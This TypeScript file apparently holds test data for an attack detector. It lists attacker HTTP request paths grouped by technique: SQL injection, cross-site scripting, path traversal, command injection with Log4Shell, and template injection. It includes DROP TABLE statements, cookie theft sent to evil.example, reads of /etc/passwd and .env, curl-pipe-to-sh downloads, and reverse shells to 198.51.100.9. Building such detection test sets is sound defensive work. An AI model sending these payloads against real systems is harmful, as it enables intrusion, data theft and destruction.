/**
 * Requests of attackers: for each kind, sessions, and for each session the requests that one address sends. They are
 * written from public descriptions of the techniques, in the encodings that scanners and people use.
 */
export const PROBES: { readonly [kind: string]: { readonly [session: string]: readonly string[] } } = {
  'SQL injection': {
    'quotes and tautologies': ["/p?id=1'+OR+'1'='1", '/p?id=1%27%20or%20%27x%27%3D%27x', '/p?id=1"+or+"a"="a'],
    'numbers without quotes': ['/p?id=5+or+1=1', '/p?id=5%20OR%202%3E1', '/p?id=5)+or+(1=1'],
    'union with comments for blanks': [
      '/p?id=-1/**/union/**/select/**/1,2,3',
      '/p?id=0/*!50000union*/+/*!50000select*/+null,null',
      '/p?id=1%2f%2a%2a%2funion%2f%2a%2a%2fselect%20null',
    ],
    'mixed case and line feeds': [
      '/p?id=1%0AuNiOn%0DsElEcT%09name,pass+FROM+users',
      '/p?id=1%0buNIoN%0cSeLeCt+1',
      '/p?id=1%a0union%a0select%a01,2',
    ],
    'encoded twice': [
      '/p?id=1%2527%2520OR%2520%25271%2527%253D%25271',
      '/p?id=1%252527%252520or%2525201%25253D1--',
      '/p?u=x%2527--',
    ],
    time: [
      "/p?id=1';SELECT+pg_sleep(10)--",
      "/p?id=1'+AND+SLEEP(5)+AND+'a'='a",
      "/p?id=1;WAITFOR+DELAY+'0:0:9'--",
      '/p?id=1+or+benchmark(9000000,md5(1))',
    ],
    errors: [
      "/p?id=1'+and+extractvalue(1,concat(0x7e,version()))--+-",
      "/p?id=1'+and+updatexml(null,concat(0x0a,user()),null)",
      '/p?id=1+union+select+@@version,null',
    ],
    'stacked statements': [
      "/p?id=1';DROP+TABLE+users;--",
      "/p?id=1;insert+into+admins+values('x')",
      "/p?id=1';update+users+set+role='admin'--",
    ],
    'catalogue tables': [
      '/p?id=1+union+select+table_name+from+information_schema.tables',
      '/p?q=x%27+union+select+relname,1+from+pg_catalog.pg_class--',
      '/p?id=-1+union+select+sql+from+sqlite_master',
    ],
    blind: [
      "/p?id=1'+and+substring(user(),1,1)='r",
      "/p?id=1'+and+ascii(substr((select+1),1,1))>64--",
      "/p?id=1'+and+exists(select+*+from+users)--",
    ],
    'a login without a password': [
      "/login?user=admin'--&pass=x",
      "/login?user=admin'%23&pass=x",
      "/login?user=admin'/*&pass=*/'",
      "/login?user='+or+1=1--",
    ],
    'encoded letters and full-width quotes': [
      '/p?id=1%20%75%6e%69%6f%6e%20%73%65%6c%65%63%74%201,2',
      '/p?id=1%ef%bc%87+or+%ef%bc%871%ef%bc%87=%ef%bc%871',
      '/p?id=1%u0027+or+%u00271%u0027=%u00271',
    ],
    'order by, to count columns': ["/p?id=1'+order+by+1--+", "/p?id=1'+order+by+20--+", '/p?id=1+order+by+7--'],
    concatenation: ["/p?id=1'||(select+version())||'", "/p?id=1'||pg_sleep(5)--", "/p?id=1'+||+'1'='1"],
  },
  'cross-site scripting': {
    script: [
      '/s?q=<script>alert(1)</script>',
      '/s?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E',
      '/s?q=%3cSCRIPT%3eprompt(1)%3c/SCRIPT%3e',
    ],
    'encoded twice and thrice': [
      '/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E',
      '/s?q=%25253Cscript%25253Econfirm(1)',
      '/s?q=%253cimg%2520src%253dx%2520onerror%253dalert(1)%253e',
    ],
    'handlers of images': [
      '/s?q=<img+src=x+onerror=alert(1)>',
      '/s?q=%3Cimg/src=%60x%60/onerror=alert%60%60%3E',
      '/s?q=%3CIMG%20%22%22%22%3E%3Cimg+src=x:x+oNeRrOr=alert(1)',
    ],
    svg: [
      '/s?q=<svg/onload=alert(1)>',
      '/s?q=%3Csvg%3E%3Canimate%20onbegin=alert(1)%20attributeName=x%3E',
      '/s?q=%3Csvg%0Aonload%3Dprompt(1)%3E',
    ],
    'out of an attribute': [
      '/s?q="+onmouseover="alert(1)',
      '/s?q=%22%20autofocus%20onfocus=alert(1)%20x=%22',
      "/s?q='+onclick='fetch(1)",
    ],
    'javascript: links': [
      '/go?u=javascript:alert(1)',
      '/go?u=javascript%3Aeval(name)',
      '/go?u=JaVaScRiPt:document.location(1)',
    ],
    'html entities': [
      '/s?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;',
      '/s?q=%26%23x3c;img%20src=x%20onerror=alert(1)%26%23x3e;',
      '/s?q=%26%2360;script%26%2362;alert(1)',
    ],
    'foreign scripts': [
      '/s?q=<script+src=https://evil.example/x.js></script>',
      '/s?q=%3Cscript/src=//evil.example%3E',
      '/s?q=<iframe+src=//evil.example>',
    ],
    'unicode escapes': [
      '/s?q=%u003cscript%u003ealert(1)',
      '/s?q=\\u003cscript\\u003ealert(1)',
      '/s?q=%ef%bc%9cscript%ef%bc%9ealert(1)',
    ],
    'other elements': [
      '/s?q=<details+open+ontoggle=alert(1)>',
      '/s?q=<body+onload=alert(1)>',
      '/s?q=<video><source+onerror=alert(1)>',
      '/s?q=<input+autofocus+onfocus=alert(1)>',
    ],
    'frames and data': [
      '/s?q=<iframe+srcdoc="javascript:alert(1)">',
      '/s?q=<object+data="data:text/html,x">',
      '/s?u=data:text/html;base64,PHNjcmlwdD4=',
    ],
    'stealing cookies': [
      '/s?q=<script>new+Image().src="//evil.example?"+document.cookie</script>',
      '/s?q=<img+src=x+onerror="fetch(document.cookie)">',
    ],
  },
  'path traversal': {
    plain: ['/d?f=../../../etc/passwd', '/d?f=../../../../../../etc/shadow', '/d?f=../../.env'],
    encoded: [
      '/d?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '/d?f=..%2f..%2f..%2fproc%2fself%2fenviron',
      '/%2e%2e/%2e%2e/etc/hosts',
    ],
    'encoded twice': [
      '/d?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd',
      '/d?f=..%255c..%255cwindows%255cwin.ini',
      '/d?f=..%252f..%252f.git/config',
    ],
    'overlong UTF-8': [
      '/d?f=..%c0%af..%c0%afetc%c0%afpasswd',
      '/d?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
      '/d?f=..%c0%af..%c0%afboot.ini',
    ],
    Windows: [
      '/d?f=..\\..\\..\\windows\\win.ini',
      '/d?f=..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
      '/d?f=c:\\boot.ini',
    ],
    'filters that remove dots': [
      '/d?f=....//....//....//etc/passwd',
      '/d?f=..././..././etc/passwd/../../x',
      '/a/..;/..;/manager/html',
    ],
    wrappers: [
      '/d?f=php://filter/convert.base64-encode/resource=config',
      '/d?f=file:///etc/passwd',
      '/d?f=expect://id',
      '/d?f=zip://up.jpg%23x',
    ],
    'absolute paths': ['/d?f=/etc/passwd', '/d?f=/proc/self/cmdline', '/d?f=/etc/shadow%00.png'],
  },
  'command injection': {
    separators: ['/ping?h=127.0.0.1;id', '/ping?h=127.0.0.1|whoami', '/ping?h=127.0.0.1%26%26uname+-a'],
    substitution: ['/ping?h=$(id)', '/ping?h=`id`', '/ping?h=%24%28whoami%29'],
    'line feeds': ['/ping?h=1%0acat%20/etc/passwd', '/ping?h=1%0d%0aid', '/ping?h=1%0Als+-la+/'],
    'blanks in disguise': [
      '/ping?h=1;cat${IFS}/etc/passwd',
      '/ping?h=1;cat$IFS$9/etc/passwd',
      '/ping?h=1%3Bping%09-c+3+10.0.0.1',
    ],
    downloads: [
      '/ping?h=1;wget+http://evil.example/x.sh',
      '/ping?h=1|curl+-s+evil.example/x|sh',
      '/ping?h=1;curl%20https://evil.example/$(id)',
    ],
    shells: [
      '/ping?h=1;bash+-i+>%26+/dev/tcp/198.51.100.9/4444',
      '/ping?h=1;nc+-e+/bin/sh+198.51.100.9+4444',
      '/ping?h=1|python3+-c+x',
    ],
    'encoded twice': ['/ping?h=1%253Bid', '/ping?h=1%257Cwhoami', '/ping?h=1%253Bsleep%252010'],
    time: ['/ping?h=1;sleep+10', '/ping?h=1|sleep+5', '/ping?h=1%26%26ping+-c+10+127.0.0.1'],
    Windows: ['/ping?h=1|dir+c:\\', '/ping?h=1%26%26type+c:\\windows\\win.ini', '/ping?h=1;powershell+-enc+ZQ=='],
    Log4Shell: [
      '/?x=${jndi:ldap://evil.example/a}',
      '/?x=%24%7Bjndi:dns://evil.example%7D',
      '/?x=${${lower:j}ndi:ldap://evil.example}',
      '/?x=${${::-j}${::-n}di:rmi://evil.example}',
    ],
  },
  'template injection': {
    arithmetic: ['/h?n={{7*7}}', '/h?n=%7B%7B7*7%7D%7D', "/h?n={{7*'7'}}"],
    'other engines': ['/h?n=${7*7}', '/h?n=<%=+7*7+%>', '/h?n=%23{7*7}', '/h?n=*{7*7}', '/h?n=@(7*7)'],
    'Python objects': [
      "/h?n={{''.__class__.__mro__[1].__subclasses__()}}",
      '/h?n={{config.items()}}',
      '/h?n={{lipsum.__globals__}}',
    ],
    Java: [
      '/h?n=${T(java.lang.Runtime).getRuntime().exec(1)}',
      '/h?n=%24%7B%22%22.getClass().forName(1)%7D',
      '/h?n=<#assign+x="freemarker.template.utility.Execute"?new()>',
    ],
    'encoded twice': ['/h?n=%257B%257B7*7%257D%257D', '/h?n=%2524%257B7*7%257D', '/h?n=%257b%257bself.x()%257d%257d'],
    'Node.js': [
      "/h?n={{constructor.constructor('return+process.env')()}}",
      "/h?n=<%=global.process.mainModule.require('child_process')%>",
      "/h?n=#{root.process.mainModule.require('x')}",
    ],
  },
};
